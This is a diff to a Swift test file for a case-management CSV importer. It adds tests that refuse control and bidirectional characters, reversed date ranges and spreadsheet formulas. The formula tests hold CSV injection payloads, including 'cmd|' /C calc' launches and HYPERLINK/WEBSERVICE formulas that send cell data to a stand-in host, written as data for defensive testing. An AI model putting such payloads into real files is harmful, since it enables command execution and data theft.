@@ -60,11 +60,38 @@ struct BadInputTests {
             refused: [(2, "B", "too long")]),
         Bad(
             "Control characters", into: "case_note", "Case,Body", "REF,bell\u{7}",
-            "REF,escape\u{1B}[31m",
-            refused: [(2, "B", "control"), (3, "B", "control")]),
+            "REF,escape\u{1B}[31m", "REF,csi\u{9B}31m", "REF,next\u{85}line", "REF,turned\u{202E}round",
+            "REF,apart\u{2067}from", "REF,none\u{FFFE}", "REF,line\u{2028}", "REF,می\u{200C}خواهم क्\u{200D}ष",
+            refused: (2...9).map { ($0, "B", "control") }),
+        Bad(
+            "What ends before it begins", into: "occupancy", "Case,Home,Arrives,Departs",
+            "REF,HOME,2027-05-19,2027-02-20", "REF,HOME,2027-05-19,2027-05-19",
+            refused: [(2, "D", "not after"), (3, "D", "not after")]),
+        Bad(
+            "A match that ends before it begins", into: "mentor_match", "Case,Mentor,From,To",
+            "REF,MENTOR,2026-03-02,2026-03-01", refused: [(2, "D", "not after")]),
+        Bad(
+            "What a whole row must not be", into: "unit", "Property,Reference,Bedrooms", "Elm House,---,2",
+            "Elm House,E,2",
+            refused: [(2, "B", "reference"), (3, "B", "too short")]),
+        Bad(
+            "Nobody in particular", into: "limited_access", "Case,Kind", "REF,EXCLUSION",
+            refused: [(2, "", "'partner'")]),
+        Bad(
+            "A second woman in one case", into: "person", "Case,legal_first,legal_last", "REF,Second,Woman",
+            flagged: [(2, "A", "another woman")]),
+        Bad(
+            "What is still to come", into: "engagement_event", "Case,Kind,When it happened", "REF,ATTENDED,2099-03-01",
+            flagged: [(2, "C", "after it was typed")]),
         Bad(
             "Formulas", into: "case_note", "Case,Body", "REF,=1+1", "REF,@SUM(A1)", "REF,'=2+2",
             refused: [(2, "B", "formula"), (3, "B", "formula")]),
+        Bad(
+            "Formulas that begin with a sign", into: "case_note", "Case,Body", "REF,+1+cmd|' /C calc'!A0",
+            "REF,-2+3+cmd|' /C calc'!A0", "REF,\"+A1*HYPERLINK(\"\"http://e/\"\"&B2)\"", "REF,+(1+1)", "REF,+'x'!A1",
+            "REF,\"+\"\"a\"\"&WEBSERVICE(\"\"http://e/\"\")\"", "REF,-SUM(A1)", "REF,-A1", "REF,- sum (A1)*2",
+            "REF,+1 +cmd|'/C calc me'!A0",
+            refused: (2...11).map { ($0, "B", "formula") }),
     ]
 
     @Test("Said by the dry run, by line and column; what is flagged comes in, what is refused does not", arguments: all)
@@ -121,6 +148,16 @@ struct BadInputTests {
                         && $0.why.lowercased().contains(words) && !$0.advice.isEmpty
                 }, "line \(line) \(column): \(words); said was \(said)", sourceLocation: sourceLocation)
         }
+    }
+
+    @Test(
+        "A telephone number, a list's dash and a number below zero are no formulas",
+        arguments: [
+            "+44 7700 900123", "+44 (0)7700-900123", "- wants a home", "- 2-3 children", "- child(ren) at home", "-5",
+            "- A&E visit on 1/3/2026", "-", "- home!", "+", "- seen at 14:05 (late)", "-3.5", "- flat 3",
+        ])
+    func prose(text: String) {
+        #expect(CSVText.complaint(text)?.why == nil)
     }
 
     @Test("What was asked for by hand before is known to a file that asks for it again")
